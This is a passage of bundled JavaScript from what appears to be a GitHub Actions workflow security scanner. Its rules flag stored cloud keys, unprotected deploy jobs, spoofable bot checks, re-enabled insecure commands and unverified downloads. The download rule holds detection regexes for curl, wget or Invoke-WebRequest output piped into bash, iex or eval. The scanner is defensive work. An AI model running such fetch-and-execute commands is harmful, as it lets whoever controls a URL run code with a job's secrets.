                { node: job ? (0,model_source/* valueOf */.RP)(job.node, "env") : undefined, where: `the env of ${where}` },
                ...steps.map((s) => ({ node: s.envNode, where: `the env of step ${s.name ?? s.index + 1} of ${where}`, step: s.index })),
            ];
            for (const block of envBlocks)
                cloudKeyEnv(ctx, block, job, reportedEnv);
            registryTokens(ctx, source, steps, job, envBlocks, reportedEnv);
        }
    },
};
/** A value that is a stored secret (not GITHUB_TOKEN, not derived from an earlier step). */
function storedSecret(source, node) {
    const text = (0,model_source/* scalarText */.ws)(node);
    if (!text || /\bsteps\.|\binputs\./.test(text))
        return undefined;
    const ref = secretRefsIn(source, node).find((r) => !isGithubToken(r) && !r.sanitized);
    if (!ref)
        return undefined;
    return ref.kind === "named" ? `secrets.${ref.name}` : ref.expression;
}
function loginActions(ctx, step, where, job) {
    const auth = cloudAuthOf(ctx.target.source, step);
    if (auth?.mode !== "static" || !auth.keyInput)
        return;
    const value = (0,model_source/* scalarText */.ws)(step.with.get(auth.keyInput)) ?? "";
    if (/\bsteps\.|\binputs\./.test(value))
        return; // derived from an earlier login, or the caller's choice
    ctx.report({
        at: auth.at,
        job: job?.id,
        step: step.index,
        message: `${auth.action} in ${where} logs in to ${auth.provider} with a stored key (\`${auth.keyInput}\`) that stays valid until someone rotates it; ${CLOUD_FIX[auth.provider]}`,
    });
}
function registryLogin(ctx, step, where, job) {
    if (stepAction(step) !== "docker/login-action")
        return;
    const registry = (input(step, "registry") ?? "").trim().replace(/^https?:\/\//, "").replace(/\/.*$/, "");
    const provider = CLOUD_REGISTRIES.find(([re]) => re.test(registry))?.[1];
    if (!provider)
        return;
    const source = ctx.target.source;
    const password = step.with.get("password");
    const secret = storedSecret(source, password);
    if (!secret)
        return;
    ctx.report({
        at: source.positionOf(password),
        job: job?.id,
        step: step.index,
        message: `docker/login-action in ${where} logs in to ${registry} with ${secret}, a long-lived ${provider} key; ${CLOUD_FIX[provider]}, and let the login use the federated credentials`,
    });
}
function cloudKeyEnv(ctx, block, job, reported) {
    const source = ctx.target.source;
    for (const [name, pair] of (0,model_source/* entries */.jO)(block.node)) {
        const provider = CLOUD_KEY_ENV[name.toUpperCase()];
        if (!provider)
            continue;
        const secret = storedSecret(source, pair.value);
        if (!secret)
            continue;
        // One finding per provider per env block, even when the workflow env reaches many jobs.
        const at = source.positionOf(pair);
        const blockKey = `${source.positionOf(block.node).line}:${provider}`;
        if (reported.has(blockKey))
            continue;
        reported.add(blockKey);
        reported.add(`${at.line}:${at.column}`);
        ctx.report({
            at,
            job: job?.id,
            step: block.step,
            confidence: "medium",
            message: `${name} in ${block.where} is a stored ${provider} key (${secret}) that stays valid until someone rotates it; ${CLOUD_FIX[provider]}`,
        });
    }
}
function registryTokens(ctx, source, steps, job, blocks, reported) {
    const publishes = deploySteps(source, steps, job);
    for (const registry of REGISTRY_TOKENS) {
        for (const publish of publishes) {
            if (!registry.publish.test(publish.what))
                continue;
            if (registry.registry === "npm" && !npmjs(steps, publish.step))
                continue;
            if (registry.registry === "PyPI" && !pypi(publish.step))
                continue;
            // The publishing step's own env, then the job's and the workflow's, which it inherits.
            const own = blocks.filter((b) => b.step === publish.step.index || b.step === undefined);
            const candidates = [];
            for (const block of own) {
                for (const [name, pair] of (0,model_source/* entries */.jO)(block.node)) {
                    if (!registry.env.includes(name.toUpperCase()))
                        continue;
                    const secret = storedSecret(source, pair.value);
                    if (secret)
                        candidates.push({ at: source.positionOf(pair), name, secret, where: block.where });
                }
            }
            const tokenInput = publish.step.with.get("token") ?? publish.step.with.get("password");
            const inputSecret = tokenInput ? storedSecret(source, tokenInput) : undefined;
            if (inputSecret && tokenInput)
                candidates.push({ at: source.positionOf(tokenInput), name: publish.step.with.has("token") ? "token" : "password", secret: inputSecret, where: `the inputs of ${publish.what}` });
            for (const c of candidates) {
                const key = `${c.at.line}:${c.at.column}`;
                if (reported.has(key))
                    continue;
                reported.add(key);
                ctx.report({
                    at: c.at,
                    job: job?.id,
                    step: publish.step.index,
                    severity: "medium",
                    message: `${publish.what}${job ? ` in job ${job.id}` : ""} authenticates to ${registry.registry} with ${c.secret} (${c.name} in ${c.where}), a long-lived token; ${registry.fix}`,
                });
            }
        }
    }
}
/** Whether an npm publish goes to npmjs.com (setup-node's `registry-url`, `--registry`). */
function npmjs(steps, publish) {
    const flag = /--registry[= ](\S+)/.exec((0,model_source/* scalarText */.ws)(publish.run) ?? "")?.[1];
    if (flag)
        return /registry\.npmjs\.org/.test(flag);
    for (const step of steps) {
        if (step.index > publish.index)
            break;
        if (stepAction(step) !== "actions/setup-node")
            continue;
        const url = input(step, "registry-url");
        if (url && !/registry\.npmjs\.org/.test(url))
            return false;
    }
    return true;
}
/** pypa/gh-action-pypi-publish and twine go to PyPI unless told another index. */
function pypi(step) {
    const url = input(step, "repository-url") ?? input(step, "repository_url") ?? (0,model_source/* scalarText */.ws)(step.env.get("TWINE_REPOSITORY_URL"));
    return url === undefined || /(?:^|\/\/)(?:upload\.|test\.)?pypi\.org\b/.test(url);
}
//# sourceMappingURL=long-lived-credentials.js.map
;// CONCATENATED MODULE: ./packages/workflow/dist/job-conditions.js

/**
 * Triggers outsiders can fire that run in the base repository's context, on its default branch,
 * with its secrets and full token permissions. (Fork `pull_request` and `pull_request_review*`
 * runs get a read-only token, no secrets and no OIDC token.)
 */
const OUTSIDER_TRIGGERS = new Set(["pull_request_target", "issue_comment", "workflow_run", "issues", "discussion", "discussion_comment"]);
/**
 * False when a job's `if:` keeps it off an event: `github.event_name == 'push'` for any other
 * event, `github.event_name != 'pull_request_target'` for that one. True when it cannot tell.
 */
function mayRunOn(job, event) {
    const condition = (0,model_source/* scalarText */.ws)(job.if) ?? "";
    if (!condition.includes("event_name"))
        return true;
    if (/\|\|/.test(condition))
        return true; // alternatives: too loose to read statically
    const equals = [...condition.matchAll(/github\.event_name\s*==\s*['"]([\w-]+)['"]/g)].map((m) => m[1]);
    const differs = [...condition.matchAll(/github\.event_name\s*!=\s*['"]([\w-]+)['"]/g)].map((m) => m[1]);
    if (differs.includes(event))
        return false;
    return equals.length === 0 || equals.includes(event);
}
//# sourceMappingURL=job-conditions.js.map
;// CONCATENATED MODULE: ./packages/workflow/dist/rules/unprotected-deploy.js




const SEVERITY = { deploy: "high", publish: "medium", "image-push": "medium", release: "medium", pages: "low" };
const RANK = ["deploy", "publish", "image-push", "release", "pages"];
/** Triggers whose runs ship nothing of consequence: fork PRs get no secrets, previews are previews. */
const PREVIEW_ONLY = new Set(["pull_request", "merge_group"]);
/**
 * Jobs that deploy, publish, push images or write releases without a GitHub environment: no
 * required reviewer, wait timer or deployment-branch rule stands between a commit and
 * production. And environments on triggers outsiders can fire, where branch rules pass.
 */
const unprotectedDeploy = {
    id: "unprotected-deploy",
    title: "Deploy job without a protected environment",
    severity: "medium",
    confidence: "high",
    targets: ["workflow"],
    check(ctx) {
        const { target } = ctx;
        if (target.kind !== "workflow")
            return;
        const source = target.source;
        const events = [...(0,walk/* eventNames */.Z2)(target)];
        if (events.length > 0 && events.every((e) => PREVIEW_ONLY.has(e)))
            return;
        // A reusable workflow's release and publish jobs are gated by its callers' workflows and
        // tag rules; it is reported only when it changes a running environment itself.
        const callOnly = events.length > 0 && events.every((e) => e === "workflow_call");
        for (const job of target.jobs) {
            if (job.uses)
                continue; // the called workflow's jobs carry their own environments
            const deploys = deploySteps(source, job.steps, job).filter((d) => !callOnly || d.kind === "deploy");
            if (deploys.length === 0)
                continue;
            const worst = [...deploys].sort((a, b) => RANK.indexOf(a.kind) - RANK.indexOf(b.kind))[0];
            const what = summary(deploys);
            if (job.environment === undefined) {
                ctx.report({
                    at: source.positionOf(job.keyNode),
                    job: job.id,
                    severity: SEVERITY[worst.kind],
                    confidence: deploys.every((d) => d.conditional) ? "medium" : "high",
                    message: `job ${job.id} ${what} without an environment:, so no required reviewer or deployment-branch rule gates it; add \`environment: ${callOnly ? "${{ inputs.environment }}" : "<name>"}\` and protect that environment (reviewers, allowed branches or tags), and keep its credentials as environment secrets`,
                });
                continue;
            }
            const outsider = events.filter((e) => OUTSIDER_TRIGGERS.has(e) && mayRunOn(job, e));
            if (outsider.length === 0)
                continue;
            const name = job.environmentName ?? (0,model_source/* scalarText */.ws)(job.environment) ?? "its environment";
            ctx.report({
                at: source.positionOf(job.environment),
                job: job.id,
                severity: "high",
                confidence: "medium",
                message: `job ${job.id} ${what} in environment ${name} under ${outsider.join("/")}, which people outside the project can trigger and which runs on the default branch, so the environment's branch rules pass; deploy from push, release or workflow_dispatch instead, and require reviewers on ${name}`,
            });
        }
    },
};
function summary(deploys) {
    const verbs = { deploy: "deploys", publish: "publishes packages", "image-push": "pushes images", release: "writes releases", pages: "publishes a site" };
    const first = deploys[0];
    const kinds = [...new Set(deploys.map((d) => d.kind))].map((k) => verbs[k]);
    const verb = kinds.length === 1 ? kinds[0] : `${kinds.slice(0, -1).join(", ")} and ${kinds.at(-1)}`;
    const more = deploys.length > 1 ? ` and ${deploys.length - 1} more step${deploys.length > 2 ? "s" : ""}` : "";
    return `${verb} (${first.what} at line ${first.at.line}${more})`;
}
//# sourceMappingURL=unprotected-deploy.js.map
;// CONCATENATED MODULE: ./packages/workflow/dist/rules/spoofable-bot-check.js




/** Contexts naming whoever caused the latest event, not who opened the pull request. */
const ACTOR_NAMES = new Set(["github.actor", "github.triggering_actor", "github.event.sender.login", "github.event.pull_request.sender.login"]);
const ACTOR_IDS = new Set(["github.actor_id", "github.event.sender.id"]);
/** Ids of dependabot[bot], dependabot-preview[bot], renovate[bot] and Dependabot's app. */
const BOT_IDS = new Set(["49699333", "27856297", "29139614", "29110"]);
/** Triggers where an `if:` is what stands between an outsider and the base repository's secrets. */
const spoofable_bot_check_PRIVILEGED = ["pull_request_target", "workflow_run"];
/**
 * `github.actor == 'dependabot[bot]'` on pull_request_target: the actor is whoever caused the
 * latest event, so a fork's author whose branch a bot later updates passes the check. The pull
 * request's author (`github.event.pull_request.user.login`) cannot be spoofed that way.
 */
const spoofableBotCheck = {
    id: "spoofable-bot-check",
    title: "Privileged decision trusts a spoofable bot actor",
    severity: "high",
    confidence: "high",
    targets: ["workflow"],
    check(ctx) {
        const workflow = ctx.target;
        if (workflow.kind !== "workflow")
            return;
        const events = (0,walk/* eventNames */.Z2)(workflow);
        const trigger = spoofable_bot_check_PRIVILEGED.find((e) => events.has(e));
        if (!trigger)
            return;
        for (const job of workflow.jobs) {
            if (job.if)
                checkIf(ctx, job.if, trigger, job);
            for (const step of job.steps)
                if (step.if)
                    checkIf(ctx, step.if, trigger, job, step);
        }
    },
};
function checkIf(ctx, node, trigger, job, step) {
    const text = (0,model_source/* scalarText */.ws)(node);
    const cond = parseCondition(text);
    if (!cond)
        return;
    const checks = leaves(cond).map(botCheck).filter((c) => c !== undefined);
    const first = checks[0];
    if (!first)
        return;
    // already pinned to the PR's author, or to branches of this repository: the spoof does not reach it
    if (implies(cond, (leaf) => authorCheck(leaf) || sameRepository(leaf)))
        return;
    const dominating = suffices(cond, (leaf) => botCheck(leaf) !== undefined);
    const where = step ? `the if: of ${stepLabel(step, job)}` : `job ${job.id}'s if:`;
    ctx.report({
        at: ctx.target.source.positionOf(node),
        job: job.id,
        step: step?.index,
        confidence: dominating ? "high" : "medium",
        message: `${where} trusts ${first.context} as '${first.literal}' on ${trigger}, but the actor is whoever caused the latest event, which a fork's author can make a bot (by getting it to update their branch); ` +
            spoofable_bot_check_fixFor(trigger, first.literal.endsWith("[bot]") ? first.literal : "dependabot[bot]"),
    });
}
function spoofable_bot_check_fixFor(trigger, bot) {
    if (trigger === "workflow_run")
        return `require github.event.workflow_run.head_repository.full_name == github.repository, and check the pull request's author (user.login == '${bot}') through the API instead of the actor`;
    return `check github.event.pull_request.user.login == '${bot}' and github.event.pull_request.head.repo.full_name == github.repository instead`;
}
function isBotName(value) {
    return /\[bot\]$/i.test(value) || /^(dependabot|renovate|github-actions)(-preview)?$/i.test(value);
}
/** `github.actor == 'dependabot[bot]'`, `startsWith(github.actor, 'dependabot')`, `contains(fromJSON('[...bots]'), github.actor)`. */
function botCheck(leaf) {
    const c = comparison(leaf);
    if (c && c.op === "==") {
        const value = String(c.value);
        if (ACTOR_NAMES.has(c.path) && isBotName(value))
            return { context: c.path, literal: value };
        if (ACTOR_IDS.has(c.path) && BOT_IDS.has(value))
            return { context: c.path, literal: value };
        return undefined;
    }
    if ("functionName" in leaf && Array.isArray(leaf.args)) {
        const name = String(leaf.functionName.lexeme ?? "").toLowerCase();
        if (!["contains", "startswith", "endswith"].includes(name))
            return undefined;
        const args = leaf.args;
        const actor = args.map(pathOf).find((p) => p !== undefined && ACTOR_NAMES.has(p));
        if (!actor)
            return undefined;
        const literal = args.map(botLiteral).find((l) => l !== undefined);
        return literal ? { context: actor, literal } : undefined;
    }
    return undefined;
}
/** A literal naming a bot, directly or inside `fromJSON('["dependabot[bot]"]')`. */
function botLiteral(node) {
    const value = literalOf(node);
    if (typeof value === "string")
        return /bot/i.test(value) ? value : undefined;
    if ("functionName" in node && Array.isArray(node.args)) {
        for (const arg of node.args) {
            const inner = literalOf(arg);
            const m = typeof inner === "string" ? /"([^"]*\[bot\])"/i.exec(inner) : null;
            if (m && m[1])
                return m[1];
        }
    }
    return undefined;
}
function authorCheck(leaf) {
    const c = comparison(leaf);
    return c !== undefined && c.op === "==" && /^github\.event\.pull_request\.user\.(login|id)$/.test(c.path);
}
function sameRepository(leaf) {
    const p = pathComparison(leaf);
    if (!p || p.op !== "==")
        return false;
    const other = p.left === "github.repository" ? p.right : p.right === "github.repository" ? p.left : undefined;
    return other !== undefined && /head\.repo\.full_name$|head_repository\.full_name$/.test(other);
}
//# sourceMappingURL=spoofable-bot-check.js.map
;// CONCATENATED MODULE: ./packages/workflow/dist/rules/insecure-commands.js




const FLAG = "ACTIONS_ALLOW_UNSECURE_COMMANDS";
/**
 * `::set-env` and `::add-path` were disabled in 2020 because any process that prints to the log
 * (a test printing an issue title, a dependency) could set LD_PRELOAD or PATH for later steps.
 * `ACTIONS_ALLOW_UNSECURE_COMMANDS: true` turns them back on.
 */
const insecureCommands = {
    id: "insecure-commands",
    title: "Insecure workflow commands enabled or used",
    severity: "high",
    confidence: "high",
    check(ctx) {
        const { target } = ctx;
        const enabledAt = new Set();
        if (target.kind === "workflow") {
            if (flagIn(ctx, (0,model_source/* valueOf */.RP)(target.source.root, "env"), "the workflow's env"))
                enabledAt.add("*");
            for (const job of target.jobs) {
                if (flagIn(ctx, (0,model_source/* valueOf */.RP)(job.node, "env"), `job ${job.id}'s env`, job))
                    enabledAt.add(job.id);
                const containerEnv = job.container ? envPairs(job.container) : [];
                for (const pair of containerEnv)
                    reportFlag(ctx, pair, `job ${job.id}'s container env`, job);
            }
        }
        for (const { step, job } of (0,walk/* allSteps */.Bd)(target)) {
            const stepEnabled = flagIn(ctx, step.envNode, `the env of ${stepLabel(step, job)}`, job, step);
            const enabled = stepEnabled || enabledAt.has("*") || (job !== undefined && enabledAt.has(job.id));
            if (step.run)
                checkScript(ctx, step, job, step.run, enabled);
        }
    },
};
function envPairs(container) {
    const env = (0,model_source/* entries */.jO)(container).find(([k]) => k === "env")?.[1].value;
    return (0,model_source/* entries */.jO)(env).filter(([k]) => k === FLAG).map(([, pair]) => pair);
}
/** Reports the flag in an env map when it is true; returns whether it is. */
function flagIn(ctx, env, where, job, step) {
    const pair = (0,model_source/* pairOf */.cF)(env, FLAG);
    if (!pair || !isTrue((0,model_source/* scalarText */.ws)(pair.value)))
        return false;
    ctx.report({
        at: ctx.target.source.positionOf(pair),
        job: job?.id,
        step: step?.index,
        message: `${FLAG}: true in ${where} re-enables ::set-env and ::add-path, so anything printed to the log can set variables such as LD_PRELOAD or PATH for later steps; remove it and write to $GITHUB_ENV / $GITHUB_PATH instead`,
    });
    return true;
}
function reportFlag(ctx, pair, where, job) {
    if (!isTrue((0,model_source/* scalarText */.ws)(pair.value)))
        return;
    ctx.report({
        at: ctx.target.source.positionOf(pair),
        job: job.id,
        message: `${FLAG}: true in ${where} re-enables ::set-env and ::add-path for commands in the container; remove it and write to $GITHUB_ENV / $GITHUB_PATH instead`,
    });
}
function isTrue(value) {
    return value !== undefined && value.trim().toLowerCase() === "true";
}
const COMMAND = /::(set-env|add-path)\b/;
function checkScript(ctx, step, job, run, enabled) {
    const script = (0,model_source/* scalarText */.ws)(run);
    if (!script || !COMMAND.test(script))
        return;
    for (const line of scriptLines(script)) {
        const m = COMMAND.exec(stripComment(line.text));
        if (!m)
            continue;
        const replacement = m[1] === "set-env" ? 'echo "NAME=value" >> "$GITHUB_ENV"' : 'echo "/some/dir" >> "$GITHUB_PATH"';
        ctx.report({
            at: locateInValue(ctx.target.source, run, script, line.offset, line.first),
            job: job?.id,
            step: step.index,
            severity: enabled ? "high" : "low",
            message: enabled
                ? `${stepLabel(step, job)} uses the deprecated ::${m[1]} command, enabled here by ${FLAG}; write ${replacement} instead and remove the flag`
                : `${stepLabel(step, job)} uses the deprecated ::${m[1]} command, which the runner rejects since 2020 (the step fails or does nothing); write ${replacement} instead`,
        });
    }
}
//# sourceMappingURL=insecure-commands.js.map
;// CONCATENATED MODULE: ./packages/workflow/dist/knowledge/downloads.js


const FETCH = String.raw `\b(?:curl|wget|iwr|Invoke-WebRequest|Invoke-RestMethod|irm)\b`;
const SHELLS = String.raw `(?:sudo\s+(?:-\S+\s+)*)?(?:env\s+(?:\S+=\S*\s+)*)?(?:/usr/bin/env\s+)?(?:/bin/|/usr/bin/)?(bash|sh|zsh|ksh|dash|python3?|perl|ruby|node|php|pwsh|iex|Invoke-Expression)\b`;
const PIPE_TO_SHELL = new RegExp(String.raw `${FETCH}[^|;&]*\|\s*${SHELLS}`, "i");
const SUBSTITUTED = new RegExp(String.raw `\b(bash|sh|zsh|source|\.|eval|iex|Invoke-Expression)\b\s*(?:-c\s+)?["(]*\s*(?:<\(|\$\()\s*${FETCH}`, "i");
/** Hashes, signatures and attestations: any of them in the script counts as verification. */
const VERIFY = /\bsha(?:256|384|512)sum\b|\bshasum\b|\bopenssl\s+(?:dgst|sha256)\b|\bGet-FileHash\b|\bcertutil\b[^\n]*-hashfile|\bgpgv?\b[^\n]*--verify|\bgpgv\b|\bcosign\s+verify(?:-blob|-attestation)?\b|\bgh\s+attestation\s+verify\b|\bslsa-verifier\b|\bminisign\b[^\n]*-V\b|\bsignify\b[^\n]*-V\b|\bsigstore\b[^\n]*verify|\bsha256\s*=|\b(?:checksum|hash)\s*(?:==|!=|=|-eq|-ne)/i;
/** A URL that names immutable content: a commit SHA in its path, or a local test server. */
function immutable(url) {
    return /\/[0-9a-f]{40}\//.test(url) || /^https?:\/\/(?:localhost|127\.0\.0\.1)[:/]/.test(url);
}
function urlIn(text) {
    const m = /https?:\/\/[^\s"'|)]+/.exec(text);
    return m ? m[0] : "a downloaded script";
}
/** The files a download command writes: `-o f`, `--output f`, `-O` (the URL's basename), `wget URL`, `-OutFile f`. */
function downloadedFiles(code) {
    const curl = /\bcurl\b/.test(code);
    const wget = /\bwget\b/.test(code);
    const ps = /\b(?:iwr|Invoke-WebRequest|Invoke-RestMethod|irm)\b/i.test(code);
    const gh = /\bgh\s+release\s+download\b/.test(code);
    if (!curl && !wget && !ps && !gh)
        return [];
    // curl -o f / -fsSLo f / --output f; wget -O f / -qO f / --output-document f; pwsh -OutFile f; gh -O f
    const output = curl
        ? /\s(?:-[a-zA-Z]*o\s*|--output[=\s]+)["']?([^\s"';|&]+)/g
        : wget
            ? /\s(?:-[a-zA-Z]*O\s*|--output-document[=\s]+)["']?([^\s"';|&]+)/g
            : ps
                ? /\s-OutFile\s+["']?([^\s"';|&]+)/gi
                : /\s(?:-O|--output)[=\s]+["']?([^\s"';|&]+)/g;
    const files = [];
    for (const m of code.matchAll(output)) {
        if (m[1] && m[1] !== "-" && !m[1].startsWith("/dev/"))
            files.push(m[1]);
    }
    const url = /https?:\/\/[^\s"'|)]+/.exec(code)?.[0];
    // curl -O / -LO / --remote-name and a plain `wget URL` write the URL's basename
    const remoteName = curl ? /\s-[a-zA-Z]*O[a-zA-Z]*(?:\s|$)|--remote-name\b/.test(` ${code} `) : wget && files.length === 0 && !/\|/.test(code);
    if (url && remoteName) {
        const base = url.replace(/[?#].*$/, "").split("/").pop();
        if (base)
            files.push(base);
    }
    return files.map((f) => f.replace(/^\.\//, ""));
}
const BIN_DIR = String.raw `(?:/usr/local/bin|/usr/bin|/opt/[\w.-]+/bin|\$HOME/(?:\.local/)?bin|~/(?:\.local/)?bin|\$\{?GITHUB_WORKSPACE\}?/bin|\$\{?RUNNER_TEMP\}?/bin)`;
/** How a later line runs a downloaded file, if it does. */
function executes(code, file) {
    const base = file.split("/").pop();
    // Each form names the file (case-sensitively, but for two) and a command of its own: a form
    // whose words are missing from the line is not compiled or tried.
    const named = code.includes(base);
    for (let i = 0; i < RUN_FORMS.length; i++) {
        const form = RUN_FORMS[i];
        if (form.needs instanceof RegExp ? !form.needs.test(code) : !named || !form.needs.some((word) => code.includes(word)))
            continue;
        const m = runForm(i, file).exec(code);
        if (m)
            return (typeof form.what === "string" ? form.what : form.what(base)).replace("$1", m[1] ?? "");
    }
    return undefined;
}
const RUN_FORMS = [
    { needs: ["/"], build: (name) => new RegExp(String.raw `(?:^|[;&|]\s*|\b(?:sudo|then|do|exec)\s+)(?:\./|/)\S*${name}\b`), what: (base) => `runs ./${base}` },
    { needs: ["sh", "source", "python", "perl", "ruby", "node"], build: (_, path) => new RegExp(String.raw `\b(bash|sh|zsh|source|python3?|perl|ruby|node|pwsh)\s+(?:-\S+\s+)*["']?${path}`), what: "runs it with $1" },
    { needs: ["chmod"], build: (_, path) => new RegExp(String.raw `\bchmod\s+(?:\+x|[0-7]*[157][0-7]*|u\+x|a\+x)\s+["']?${path}`), what: "makes it executable" },
    { needs: ["dpkg"], build: (_, path) => new RegExp(String.raw `\bdpkg\s+-i\s+["']?${path}`), what: "installs it with dpkg -i" },
    { needs: ["apt"], build: (_, path) => new RegExp(String.raw `\bapt(?:-get)?\s+install\b[^;&|]*\s["']?\.?/?${path}`), what: "installs it with apt" },
    { needs: ["rpm"], build: (_, path) => new RegExp(String.raw `\brpm\s+-[iU]\w*\s+["']?${path}`), what: "installs it with rpm" },
    { needs: ["installer"], build: (_, path) => new RegExp(String.raw `\binstaller\s+-pkg\s+["']?${path}`), what: "installs it with installer" },
    { needs: /msiexec/i, build: (_, path) => new RegExp(String.raw `\bmsiexec\b[^;&|]*${path}`, "i"), what: "installs it with msiexec" },
    { needs: /Start-Process/i, build: (_, path) => new RegExp(String.raw `\bStart-Process\b[^;&|]*${path}`, "i"), what: "starts it" },
    { needs: ["pip"], build: (_, path) => new RegExp(String.raw `\bpip3?\s+install\s+(?:-\S+\s+)*["']?${path}`), what: "installs it with pip" },
    { needs: ["tar"], build: (_, path) => new RegExp(String.raw `\btar\b[^;&|]*${path}[^;&|]*-C\s+["']?${BIN_DIR}|\btar\b[^;&|]*-C\s+["']?${BIN_DIR}[^;&|]*${path}`), what: "unpacks it into a bin directory" },
    { needs: ["mv", "cp", "install"], build: (_, path) => new RegExp(String.raw `\b(?:mv|cp|install)\b[^;&|]*${path}[^;&|]*\s["']?${BIN_DIR}`), what: "installs it into a bin directory" },
];
/** Form `index` compiled for `file`, once. */
function runForm(index, file) {
    return compiledForm(`${index} ${file}`);
}
const compiledForm = (0,memo/* memoizeText */.E)((key) => {
    const space = key.indexOf(" ");
    const file = key.slice(space + 1);
    const name = file.replace(/[.*+?^${}()|[\]\\]/g, "\\$&").split("/").pop();
    return RUN_FORMS[Number(key.slice(0, space))].build(name, String.raw `(?:\S*/)?${name}\b`);
}, 5000);
const IN_BIN_DIR = new RegExp(`^${BIN_DIR}/`);
/**
 * Every form below needs one of these; a script without any is skipped at once. (`download`, not
 * `gh release download`: a continuation line can split the command between its words.)
 */
const MAY_DOWNLOAD = /curl|wget|\biwr\b|\birm\b|invoke-|download|https?:/i;
/** Unverified downloads in a `run:` script. */
function unverifiedDownloads(script) {
    if (!MAY_DOWNLOAD.test(script))
        return [];
    const out = [];
    const lines = scriptLines(script);
    const verified = VERIFY.test(script);
    const downloads = [];
    const archives = [];
    for (const line of lines) {
        const code = withoutExpressions(stripComment(line.text));
        if (!code.trim())
            continue;
        if (!verified) {
            const installed = archiveInstall(code, line, archives);
            if (installed && !out.some((o) => o.url === installed.url))
                out.push(installed);
        }
        const pipe = PIPE_TO_SHELL.exec(code) ?? SUBSTITUTED.exec(code);
        if (pipe) {
            const url = urlIn(code);
            if (!immutable(url))
                out.push({ line, kind: "pipe", url, runner: pipe[1] ?? "a shell" });
            continue;
        }
        const pkg = packageUrl(code);
        if (pkg) {
            out.push({ line, kind: "package-url", url: pkg.url, runner: pkg.runner });
            continue;
        }
        for (const file of downloadedFiles(code))
            downloads.push({ file, url: urlIn(code), line });
        // a download straight into a bin directory (curl -Lo /usr/local/bin/tool) is an install
        if (!verified && downloads.length > 0) {
            for (const d of downloads) {
                if (d.line === line && IN_BIN_DIR.test(d.file) && !immutable(d.url) && !out.some((o) => o.line === line)) {
                    out.push({ line, kind: "install-binary", url: d.url, runner: `writes it to ${d.file}` });
                }
            }
        }
        if (verified)
            continue;
        for (const d of downloads) {
            if (immutable(d.url) || out.some((o) => o.url === d.url && o.kind !== "pipe"))
                continue;
            // on the download's own line, only what comes after the file name (curl -o x.sh URL && bash x.sh)
            const rest = d.line === line ? code.slice(code.indexOf(d.file) + d.file.length) : code;
            const what = executes(rest, d.file);
            if (what)
                out.push({ line: d.line, kind: /bin directory/.test(what) ? "install-binary" : "execute", url: d.url, runner: what });
        }
    }
    return out;
}
/** `pip install https://...` (no `#sha256=`), `pip install git+https://...` (no commit), `npm install https://....tgz`. */
function packageUrl(code) {
    if (/--require-hashes\b/.test(code))
        return undefined;
    const pip = /\b(pip3?|uv\s+pip|pipx)\s+install\b[^;&|]*?\s["']?((?:git\+)?https?:\/\/[^\s"']+)/.exec(code);
    if (pip && pip[2]) {
        const url = pip[2];
        const pinned = /#sha(?:256|384|512)=[0-9a-f]+/i.test(url) || /@[0-9a-f]{40}\b/.test(url) || immutable(url);
        if (!pinned)
            return { url, runner: `${pip[1]} install` };
    }
    const npm = /\b(npm|pnpm|yarn)\s+(?:install|i|add)\b[^;&|]*?\s["']?((?:git\+)?https?:\/\/[^\s"']+)/.exec(code);
    if (npm && npm[2]) {
        const url = npm[2];
        const pinned = /#[0-9a-f]{40}\b/.test(url) || /\/[0-9a-f]{40}\//.test(url) || immutable(url);
        if (!pinned)
            return { url, runner: `${npm[1]} install` };
    }
    return undefined;
}
const ARCHIVE = /\.(?:tar\.gz|tgz|tar\.xz|txz|tar\.bz2|tar\.zst|tar|zip)$/i;
const PIPE_TO_UNPACK = new RegExp(`${FETCH}[^|;&]*\\|\\s*(?:sudo\\s+)?(?:tar|bsdtar|unzip)\\b`, "i");
const INSTALLS = new RegExp(String.raw `\bchmod\s+(?:\+x|[0-7]*[157][0-7]*|u\+x|a\+x)\s|\b(?:mv|cp|install)\b[^;&|]*\s["']?(?:${BIN_DIR}|(?:\./)?bin)/?["']?(?:\s|$)`);
/** `tar`/`unzip` of an archive by its file name, compiled once per name. */
const unpacks = (0,memo/* memoizeText */.E)((name) => new RegExp(`\\b(?:tar|bsdtar|unzip)\\b[^;&|]*${name.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")}`), 1000);
/**
 * An archive downloaded and unpacked (`curl -LO x.tgz; tar xf x.tgz`, `curl URL | tar xz`), then a
 * file made executable or moved into a bin directory: an install of whatever the archive held.
 */
function archiveInstall(code, line, archives) {
    if (PIPE_TO_UNPACK.test(code)) {
        archives.push({ url: urlIn(code), line, extracted: true });
    }
    else {
        for (const file of downloadedFiles(code))
            if (ARCHIVE.test(file))
                archives.push({ url: urlIn(code), line, extracted: false, file });
    }
    for (const a of archives) {
        const name = a.file?.split("/").pop();
        if (!a.extracted && name && code.includes(name) && (code.includes("tar") || code.includes("unzip")) && unpacks(name).test(code))
            a.extracted = true;
    }
    if (!INSTALLS.test(code))
        return undefined;
    const source = archives.find((a) => a.extracted && !immutable(a.url));
    return source ? { line: source.line, kind: "install-binary", url: source.url, runner: "unpacks it and installs what it holds" } : undefined;
}
//# sourceMappingURL=downloads.js.map
;// CONCATENATED MODULE: ./packages/workflow/dist/rules/unverified-download.js








/**
 * Code fetched from the network and run with no integrity check: whoever controls the URL (a
 * moved branch, a compromised release, a hijacked domain) runs code in the job, with its token and
 * secrets. A checksum or signature check anywhere in the same script counts as verification.
 */
const unverifiedDownload = {
    id: "unverified-download",
    title: "Downloaded code run without an integrity check",
    severity: "medium",
    confidence: "high",
    check(ctx) {
        const { target } = ctx;
        // Which jobs ship is only worked out when a download is found: most workflows have none.
        let shippingCache;
        const shippingOf = () => (shippingCache ??= target.kind === "workflow" ? shippingJobs(target, releaseTriggers(target).length > 0) : new Map());
        for (const { step, job } of (0,walk/* allSteps */.Bd)(target)) {
            for (const node of scriptsOf(step)) {
                const script = (0,model_source/* scalarText */.ws)(node) ?? "";
                for (const found of unverifiedDownloads(script)) {
                    const shipping = shippingOf();
                    ctx.report({
                        at: locateInValue(target.source, node, script, found.line.offset, found.line.first),
                        job: job?.id,
                        step: step.index,
                        severity: job && shipping.has(job.id) ? "high" : "medium",
                        confidence: found.kind === "pipe" || found.kind === "execute" ? "high" : "medium",
                        message: `${stepLabel(step, job)} ${describe(found)}${shipsNote(job, shipping)}; ${unverified_download_fixFor(found)}`,
                    });
                }
            }
        }
    },
};
/** The step's `run:`, or the shell-script inputs of actions that run them (addnab/docker-run-action `run`, azure/cli `inlineScript`). */
function scriptsOf(step) {
    if (step.run)
        return [step.run];
